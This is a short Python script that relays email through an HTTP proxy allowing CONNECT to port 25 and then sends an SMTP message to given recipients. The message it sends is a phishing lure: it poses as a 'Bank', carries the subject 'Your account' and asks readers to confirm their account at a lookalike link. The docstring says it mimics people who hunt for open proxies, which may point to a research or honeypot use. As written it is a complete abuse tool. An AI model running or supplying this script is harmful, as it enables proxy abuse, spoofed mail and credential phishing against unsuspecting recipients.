#!/usr/bin/env python3
"""Sends a mail through an HTTP proxy that lets anybody CONNECT to port 25, as those who look for such proxies do.

usage: through_proxy.py PROXY PORT TARGET SENDER RECIPIENT...
"""
import socket
import sys


def main(proxy, port, target, sender, *recipients):
    s = socket.create_connection((proxy, int(port)), timeout=20)

    def say(line):
        s.sendall(line.encode() + b"\r\n")
        return s.recv(4096).decode(errors="replace")

    answer = say(f"CONNECT {target}:25 HTTP/1.0\r\n")
    if " 200 " not in answer:
        sys.exit("through_proxy.py: " + answer.splitlines()[0])
    if "\r\n220 " not in answer:
        s.recv(4096)
    say("HELO User")
    say(f"MAIL FROM: <{sender}>")
    for r in recipients:
        say(f"RCPT TO: <{r}>")
    if say("DATA").startswith("354"):
        say(f"From: \"Bank\" <{sender}>\r\nTo: undisclosed\r\nSubject: Your account\r\n\r\n"
            "Please confirm your account at http://bank.watches.example/ today.\r\n.")
    say("QUIT")
    s.close()


main(*sys.argv[1:])
